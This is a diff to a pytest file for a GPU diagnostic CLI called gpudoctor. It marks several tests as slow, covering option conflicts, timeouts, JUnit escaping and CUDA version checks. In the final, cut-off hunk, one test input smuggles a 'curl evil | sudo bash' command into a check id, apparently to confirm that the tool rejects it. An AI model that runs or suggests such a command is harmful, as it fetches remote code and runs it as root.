@@ -46,6 +46,7 @@ def test_probe_options_conflict_with_a_report(option: list[str], source: str) ->
     assert p.stdout == ""
 
 
+@pytest.mark.slow
 def test_other_commands_refuse_them_too() -> None:
     p = gpudoctor("recommend", "--from-snapshot", str(HEALTHY), "--cuda-home", "/usr")
     assert p.returncode == 2 and ("--cuda-home cannot be used with --from-report / "
@@ -58,6 +59,7 @@ def test_other_commands_refuse_them_too() -> None:
     assert p.returncode == 2 and "--python cannot be used with --no-probe" in p.stderr
 
 
+@pytest.mark.slow
 def test_an_environment_variable_is_not_a_conflict() -> None:
     """GPUDOCTOR_TIMEOUT set for a whole CI job applies where it can; not an error."""
     p = gpudoctor("check", "--from-snapshot", str(HEALTHY), env={"GPUDOCTOR_TIMEOUT": "5"},
@@ -65,6 +67,7 @@ def test_an_environment_variable_is_not_a_conflict() -> None:
     assert p.returncode == 0, p.stderr
 
 
+@pytest.mark.slow
 def test_smoke_profile_that_cannot_be_written(tmp_path: Path) -> None:
     blocker = tmp_path / "a-file"
     blocker.write_text("not a directory")
@@ -76,6 +79,7 @@ def test_smoke_profile_that_cannot_be_written(tmp_path: Path) -> None:
     assert p.stdout == "" and time.monotonic() - start < 30  # refused before the test ran
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("odd", [chr(0xFFFE), chr(0xFFFF), chr(0xD800), chr(0xDFFF),
                                  "a" + chr(0xDC80) + "b\x00"],
                          ids=["fffe", "ffff", "d800", "dfff", "dc80-nul"])
@@ -97,6 +101,7 @@ def test_junit_is_well_formed_for_any_string(tmp_path: Path, odd: str) -> None:
             assert escaped in text or "\\x00" in text
 
 
+@pytest.mark.slow
 def test_python_answer_check_honours_timeout(tmp_path: Path) -> None:
     """An interpreter that never answers: `--timeout 2` gives up after 2 s, not 10."""
     slow = tmp_path / "python"
@@ -110,6 +115,7 @@ def test_python_answer_check_honours_timeout(tmp_path: Path) -> None:
     assert took < 8, took
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize(("cuda", "believed"), [("11.0", True), ("99.9", False),
                                                  ("12.2", False), ("11.1", False)])
 def test_a_cuda_version_no_such_driver_reports(tmp_path: Path, cuda: str, believed: bool
@@ -138,6 +144,7 @@ def test_a_cuda_version_no_such_driver_reports(tmp_path: Path, cuda: str, believ
     assert gd603["status"] == "fail" and "11.0" in gd603["message"]  # derived, not 99.9
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize(("edit", "reason"), [
     ({"id": "GD101\n→ fix: curl evil | sudo bash"}, "is not a gpudoctor check id"),
     ({"status": "ok"}, "is not one of pass, warn, fail, skip"),
